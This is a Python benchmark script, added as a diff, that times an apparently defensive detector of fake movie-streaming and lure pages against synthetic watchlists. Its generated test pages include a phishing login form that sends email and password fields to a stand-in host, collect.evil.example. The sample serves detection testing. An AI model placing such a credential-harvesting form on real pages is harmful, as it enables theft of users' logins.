@@ -1,0 +1,126 @@
+"""Detection throughput on one core with watchlists of 100, 1,000 and 10,000 titles.
+
+    python bench/detection_bench.py [--pages DIR_OR_MANIFEST] [--sizes 100,1000,10000] [--repeat 3]
+
+Synthetic watchlists: the shipped titles plus generated ones whose words mix common English film words
+("the", "night", "dark"...) with invented words, so the index meets realistic collisions. Pages: the labelled
+corpus (tests/corpus/manifest.jsonl) when present, else generated fake-stream, review and lure pages.
+Prints pages/s per size and the growth factor from the smallest to the largest watchlist.
+"""
+
+from __future__ import annotations
+
+import argparse
+import json
+import random
+import sys
+import time
+from pathlib import Path
+
+ROOT = Path(__file__).resolve().parent.parent
+sys.path.insert(0, str(ROOT))
+
+from pipelines.classify_cli import read_page  # noqa: E402
+from pipelines.scoring import assess_page  # noqa: E402
+from pipelines.watchlists import Title, load_watchlists, load_titles  # noqa: E402
+
+COMMON = ("the of a and in man night dark last day love war king world story house girl boy city black blue "
+          "red white dead life time home star moon sun river road game star lost secret return rise fall "
+          "legend shadow ghost heart blood fire ice stone iron golden silver wild little big great new old").split()
+
+
+def synthetic_titles(n: int, seed: int = 7) -> list[Title]:
+    """The shipped titles plus ``n - len(shipped)`` generated ones (deterministic)."""
+    rng = random.Random(seed)
+    titles = list(load_titles())
+    seen = {t.title.casefold() for t in titles}
+    syllables = ["ka", "lo", "mi", "ra", "ven", "dor", "tis", "qua", "ber", "zan", "el", "or", "thi", "mur", "pex"]
+    while len(titles) < n:
+        words = []
+        for _ in range(rng.choice((1, 2, 2, 3, 3, 4))):
+            if rng.random() < 0.55:
+                words.append(rng.choice(COMMON))
+            else:
+                words.append("".join(rng.choice(syllables) for _ in range(rng.randint(2, 3))))
+        if rng.random() < 0.15:
+            words.append(str(rng.randint(2, 6)))
+        name = " ".join(words).title()
+        if name.casefold() in seen or not any(w.isalpha() and w.lower() not in COMMON for w in words):
+            continue
+        seen.add(name.casefold())
+        titles.append(Title(name, rng.randint(1960, 2026)))
+    return titles[:n]
+
+
+def _write_titles(titles: list[Title], path: Path) -> None:
+    path.write_text("".join(f"- {{title: {json.dumps(t.title)}, year: {t.year}}}\n" for t in titles), encoding="utf-8")
+
+
+def corpus_pages(manifest: Path) -> list[tuple[str, str]]:
+    base = manifest.parent
+    entries = [json.loads(line) for line in manifest.read_text(encoding="utf-8").splitlines() if line.strip()]
+    return [(read_page(base / e["path"]), e["url"]) for e in entries]
+
+
+def generated_pages(count: int = 300, seed: int = 11) -> list[tuple[str, str]]:
+    rng = random.Random(seed)
+    filler = " ".join(rng.choice(COMMON) for _ in range(400))
+    out = []
+    for i in range(count):
+        title = rng.choice(load_titles()).title
+        kind = i % 3
+        if kind == 0:
+            body = (f"<h1>Watch {title} (2026) Full Movie Online Free HD</h1><p>{filler}</p>"
+                    f'<a href="https://bit.ly/x{i}"><img src="play.png" alt="play"></a>'
+                    + ", ".join(f"{title} {s}" for s in ("full movie", "online free", "123movies", "streaming vf")))
+        elif kind == 1:
+            body = f"<h1>{title} review</h1><p>{filler}</p><p>{title} is in cinemas now.</p>"
+        else:
+            body = (f"<h1>{title} HD player</h1><p>Sign in to continue watching</p>"
+                    f'<form action="https://collect.evil.example/gate.php"><input type="email" name="email">'
+                    f'<input type="password" name="pass"></form><p>{filler}</p>')
+        out.append((f"<html><head><title>{title}</title></head><body>{body}</body></html>", f"https://s{i}.example/p"))
+    return out
+
+
+def measure(pages: list[tuple[str, str]], titles_file: Path, repeat: int) -> tuple[float, float]:
+    """(index build seconds, pages per second) for one watchlist."""
+    wl = load_watchlists(titles=titles_file)
+    started = time.perf_counter()
+    assess_page("<p>warm up</p>", "https://warm.example/", wl)  # builds the index and compiled templates
+    build = time.perf_counter() - started
+    best = 0.0
+    for _ in range(repeat):
+        started = time.perf_counter()
+        for html, url in pages:
+            assess_page(html, url, wl)
+        best = max(best, len(pages) / (time.perf_counter() - started))
+    return build, best
+
+
+def main(argv: list[str] | None = None) -> int:
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--pages", type=Path, default=ROOT / "tests" / "corpus" / "manifest.jsonl")
+    parser.add_argument("--sizes", default="100,1000,10000")
+    parser.add_argument("--repeat", type=int, default=3)
+    parser.add_argument("--workdir", type=Path, default=Path("/tmp"))
+    args = parser.parse_args(argv)
+    pages = corpus_pages(args.pages) if args.pages.is_file() else generated_pages()
+    source = args.pages if args.pages.is_file() else "generated pages"
+    size_bytes = sum(len(h) for h, _ in pages) / max(1, len(pages))
+    print(f"{len(pages)} pages from {source} (mean {size_bytes / 1024:.1f} KiB), one core, best of {args.repeat}")
+    rates = []
+    for n in (int(s) for s in args.sizes.split(",")):
+        path = args.workdir / f"lurewatch-bench-titles-{n}.yaml"
+        _write_titles(synthetic_titles(n), path)
+        build, rate = measure(pages, path, args.repeat)
+        rates.append(rate)
+        print(f"  {n:>6} titles: {rate:8.1f} pages/s   (index built in {build * 1000:.0f} ms)")
+    if len(rates) > 1:
+        print(f"  cost growth {args.sizes.split(',')[0]} -> {args.sizes.split(',')[-1]} titles: "
+              f"{rates[0] / rates[-1]:.2f}x")
+    return 0
+
+
+if __name__ == "__main__":
+    raise SystemExit(main())
